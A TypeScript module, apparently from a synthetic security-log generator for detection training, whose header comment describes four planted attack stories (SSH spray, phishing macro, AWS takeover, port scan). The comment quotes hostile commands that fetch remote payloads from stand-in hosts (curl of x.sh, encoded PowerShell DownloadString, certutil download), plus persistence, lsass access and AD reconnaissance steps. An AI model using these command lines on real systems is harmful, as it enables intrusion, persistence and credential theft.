/**
 * The attack stories hidden in the demo day. Times are UTC clock times for a `day` window
 * (midnight to midnight); in a window that starts at another time each story keeps its clock
 * time (moved earlier only if the window would end before the story finishes). Exact instants of
 * every step are in `demoStories(opts)[i].steps`; seconds vary slightly with the seed where noted.
 *
 * 1. ssh-spray (linux-syslog, edgewall-fw, zeek), 02:14:07 to about 02:47
 *    - 203.0.113.45 -> 198.51.100.10:22 (NAT to web-01, 10.20.1.11), rule Legacy-SSH-web-01.
 *    - 63 attempts, 16 user names x 4 rounds, 20-30 s apart: sshd "Failed password for [invalid
 *      user] X from 203.0.113.45", Zeek conn + ssh (auth_success false), CEF allow.
 *    - about 02:40 (spray end + 12 s; the spray's pace is seed-dependent): "Accepted password for
 *      deploy from 203.0.113.45"; Zeek ssh auth_success true.
 *    - +2m20s: sudo "deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash".
 *    - +40s: audit EXECVE curl -fsSL http://203.0.113.45/x.sh; Zeek http GET /x.sh (curl/8.5.0).
 *    - +55s: groupadd/useradd "new user: name=sysupd, UID=1002"; +20s usermod add to 'sudo';
 *      +18s passwd changed for sysupd; about 2.5 min later the deploy session closes.
 *
 * 2. phishing-macro (mailguard, windows-ws-003, zeek, suricata, edgewall-fw), 10:02:11 to ~12:31
 *    - 10:02:11 LEEF MAIL_DELIVERED from billing@secure-invoices.example (MTA 192.0.2.10) to
 *      mreyes@northwindlabs.co.uk, attachment Invoice_INV-20931.docm, verdict clean.
 *    - 10:14:05 Sysmon 11: OUTLOOK.EXE writes ...\Content.Outlook\Q7RZ2M4K\Invoice_INV-20931.docm
 *      on WS-003 (10.10.1.22, user NORTHWIND\mreyes, Finance).
 *    - 10:14:19 Sysmon 1 + 4688: WINWORD.EXE opens it (parent OUTLOOK.EXE).
 *    - 10:14:41 Sysmon 1 + 4688: powershell.exe -nop -w hidden -enc <UTF-16LE base64 of
 *      IEX (New-Object Net.WebClient).DownloadString('http://msupdate-cdn.example/a.ps1')>,
 *      ParentImage WINWORD.EXE. 10:14:42 Sysmon 22 msupdate-cdn.example -> 203.0.113.80,
 *      Sysmon 3 to 203.0.113.80:80; Zeek dns/conn/http GET /a.ps1; Suricata http + alert 9200001.
 *    - 10:15:03 certutil.exe -urlcache -split -f http://msupdate-cdn.example/update.dll
 *      C:\Users\Public\update.dll (parent powershell); Zeek http/files (application/x-dosexec),
 *      Suricata alert 9200002 (CertUtil URL Agent); Sysmon 11 C:\Users\Public\update.dll.
 *    - 10:15:30 rundll32.exe C:\Users\Public\update.dll,DllRegisterServer (parent powershell);
 *      10:15:32 Sysmon 13 HKU\<sid>\...\CurrentVersion\Run\OneDriveUpdate.
 *    - 10:15:59 Sysmon 22 telemetry-sync.example -> 198.51.100.66; from then TLS beacons to
 *      198.51.100.66:443 (SNI telemetry-sync.example, JA3 a0e9f5d6...) every ~60 s until ~12:31:
 *      Zeek conn + ssl, Suricata tls each time, alert 9200010 every 20th, CEF every 5th.
 *    - 10:22:09 Sysmon 10: rundll32.exe opens lsass.exe, GrantedAccess 0x1010, CallTrace UNKNOWN.
 *    - 10:24:14, :55, 10:25:36: cmd.exe /c whoami /all; net group "Domain Admins" /domain;
 *      nltest /dclist:northwind.local (parent rundll32.exe), each with its child process.
 *
 * 3. aws-takeover (aws-cloudtrail), 19:02:31 to ~19:19
 *    - 19:02:31 ConsoleLogin Failure for IAM user dbrooks from 192.0.2.77 (DEMO_GEO: BR).
 *    - 19:03:12 ConsoleLogin Success, additionalEventData.MFAUsed "No", Firefox on Linux.
 *    - ListUsers, DescribeTrails, ListBuckets; 19:07:44 StopLogging on
 *      arn:aws:cloudtrail:eu-west-2:444455556666:trail/northwind-management-trail.
 *    - 19:09:02 CreateUser svc-backup-sync; 19:09:21 AttachUserPolicy
 *      arn:aws:iam::aws:policy/AdministratorAccess; 19:09:48 CreateAccessKey AKIA6NWL7QX2BKPSYNC9.
 *    - 19:14:05 svc-backup-sync (aws-cli, same IP) ListBuckets, then 12 GetObject from
 *      northwind-finance-exports (finance/2026/ledger-2026-01..12.csv), 23 s apart.
 *
 * 4. port-scan (edgewall-fw, zeek, suricata), 14:20:00 to ~14:21:40
 *    - 192.0.2.200 (fixed source port) SYN-probes 300 TCP ports of 198.51.100.10, 0.18-0.48 s apart.
 *    - CEF: deny (Default-Deny) for most, reject (Reject-Legacy-Services) for 20 legacy ports,
 *      allow for 22/80/443; Zeek conn S0 / REJ / RSTO respectively.
 *    - After the 25th probe: CEF "Port scan detected" (signature 200, severity 8) and Suricata
 *      alert 9100301.
 *
 * Benign look-alikes in the background: DC01 4720 + 4732 at 09:41 (akowalski creates nhall, adds
 * her to Finance-Share-RW); a Root console login with MFA at 16:05; Intune PowerShell scripts run
 * with -executionPolicy bypass; internet SSH guessing on web-01 and bastion-01 from many IPs;
 * OneDrive's Run key writes.
 */
import type { Rng } from './random.ts';
import type { DayWindow } from './schedule.ts';
import { buildAwsTakeover } from './story-aws.ts';
import type { BuiltStory } from './story-kit.ts';
import { buildPhishing } from './story-phish.ts';
import { buildPortScan } from './story-scan.ts';
import { buildSshSpray } from './story-ssh.ts';

export type { StoryId, StoryInfo, StoryStep } from './story-kit.ts';

/** All stories for a window, each with its own seeded sub-generator. */
export function buildStories(rng: Rng, window: DayWindow): BuiltStory[] {
  return [
    buildSshSpray(rng.fork('story:ssh-spray'), window),
    buildPhishing(rng.fork('story:phishing-macro'), window),
    buildPortScan(rng.fork('story:port-scan'), window),
    buildAwsTakeover(rng.fork('story:aws-takeover'), window),
  ];
}
